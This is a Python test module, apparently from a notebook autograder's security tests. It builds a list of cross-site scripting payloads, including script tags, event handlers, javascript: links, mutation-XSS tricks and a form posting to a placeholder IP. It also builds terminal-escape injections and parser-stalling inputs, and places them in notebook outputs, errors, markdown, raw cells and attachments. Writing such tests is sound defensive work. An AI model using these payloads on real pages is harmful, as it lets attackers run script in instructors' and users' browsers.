"""Attacks on whoever looks at a page: the student's HTML and script in outputs, texts, names and metadata."""

import json
from pathlib import Path

from ..conftest import BATCHES
from .attack import ALL, ANSWERS, Attack, Theme, answers, both, code, nothing, own

# Each would run in a page that shows it as it is.
EVIL = (
    "<script>alert('evil')</script>",
    '<img src="x" onerror="alert(\'evil\')">',
    "<svg onload=\"alert('evil')\"><script>alert(1)</script></svg>",
    "<a href=\"javascript:alert('evil')\">evil</a>",
    '<iframe srcdoc="<script>evil</script>"></iframe>',
    '<style>@import url(http://192.0.2.1/evil)</style><form action="http://192.0.2.1/evil"><input name="evil"></form>',
    '<a href=" &#1;data:text/html,<script>evil</script>">evil</a><base href="http://192.0.2.1/"><meta '
    'http-equiv="refresh">',
    '<div style="background:url(javascript:evil)" onmouseover="evil()" class="full-credit" id="hand-in">evil</div>',
    "[evil](javascript:alert(1)) ![evil](javascript:alert(1))",
    "$<img src=x onerror=evil()>$ $$</span><script>evil</script>$$ `<script>evil</script>`",
    "```html\n<script>evil</script>\n```",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=evil()&gt;">',
    "</textarea></title></style></script><script>evil</script>",
)
_TYPES = (
    "text/html",
    "text/markdown",
    "text/latex",
    "text/plain",
    "image/svg+xml",
    "image/png",
    "image/jpeg",
    "application/javascript",
    "application/json",
    "application/pdf",
    "text/vnd.mermaid",
    "application/vnd.jupyter.widget-view+json",
)
_SHOW = f"""\
evil = {EVIL!r}
for each in evil:
    for kind in {_TYPES!r}:
        more = {{kind: {{"width": each, "filenames": {{kind: each}}}}}}
        display({{kind: each + '">' + each}}, raw=True, metadata=more)
"""


def _attached(path: Path) -> None:
    notebook = json.loads(path.read_text())
    for n, mime in enumerate(("text/html", "image/svg+xml", 'image/png"><script>evil</script>', "image/png")):
        notebook["cells"].append(
            {
                "cell_type": "markdown",
                "id": f"attached-{n}",
                "metadata": {},
                "source": "![evil](attachment:x)",
                "attachments": {"x": {mime: '"><script>evil</script>'}},
            }
        )
    path.write_text(json.dumps(notebook))


def _raw(path: Path) -> None:
    for kind in ("text/html", "", "text/markdown"):
        own("\n".join(EVIL), kind="raw")(path)
        notebook = json.loads(path.read_text())
        for cell in notebook["cells"]:
            if cell["cell_type"] == "raw" and not cell["metadata"]:
                cell["metadata"] = {"raw_mimetype": kind, "format": kind}
        path.write_text(json.dumps(notebook))


# Each takes a parser minutes.
_LONG = """\
display({"text/html": "<div>" * 30_000}, raw=True)
print("\\x1b[31mx" * 100_000)
"""


PAGES = Theme(
    "pages",
    (
        Attack("page_outputs", code(_SHOW), ALL),
        Attack(
            "page_streams",
            code(f"import sys\nfor each in {EVIL!r}:\n    print(each)\n    print(each, file=sys.stderr)"),
            ALL,
        ),
        Attack(
            "page_result",
            code(
                f"class Mine:\n    def _repr_html_(self): return {chr(10).join(EVIL)!r}\n    "
                f"def __repr__(self): return {EVIL[0]!r}\nMine()"
            ),
            ALL,
        ),
        Attack("page_error", code(f"raise ValueError({chr(10).join(EVIL)!r})"), ALL),
        Attack("page_error_name", code(f"raise type({EVIL[0]!r}, (Exception,), {{}})({EVIL[1]!r})"), ALL),
        Attack(
            "page_error_traceback",
            code(
                f"class Mine(Exception):\n    def _render_traceback_(self): return [{EVIL[0]!r}, '\\x1b[31m' + "
                f"{EVIL[1]!r}]\n"
                "raise Mine"
            ),
            ALL,
        ),
        Attack(
            "page_escapes",
            code(r"print('\x1b]8;;javascript:evil()\x07evil\x1b]8;;\x07 \x1b[38;2;1;2;3\"><script>evil()</script>m')"),
            ALL,
        ),
        Attack("page_source", code("#" + " ".join(EVIL).replace("\n", " ")), ALL),
        Attack("page_markdown", both(answers(**ANSWERS), own("\n\n".join(EVIL), kind="markdown")), ALL),
        Attack("page_raw", both(answers(**ANSWERS), _raw), ALL),
        Attack("page_attached", both(answers(**ANSWERS), _attached), ALL),
        Attack(
            "page_long",
            both(code(_LONG), own("<div>" * 30_000, kind="markdown"), own(r"\begin{a}" * 5000, kind="markdown")),
            ALL,
        ),
        Attack("page_long_code", code("a." * 20_000), ALL),
        # A text that is graded by hand: an instructor reads it in formgrader.
        Attack("page_words", answers(in_words="\n\n".join(EVIL)), 0, notebook=BATCHES),
        # No attack: what the page of that text is compared with.
        Attack("page_z_words", answers(in_words="A small batch knows less."), 0, notebook=BATCHES),
        # What is wrong with an answer is said beside it. It must not be said in the student's words.
        Attack(
            "page_comment",
            nothing(
                "import bn_exercises.notebook as engine\n"
                f"engine.read = lambda value: engine.Unusable({EVIL[0]!r} + {EVIL[1]!r})"
            ),
            0,
        ),
    ),
)
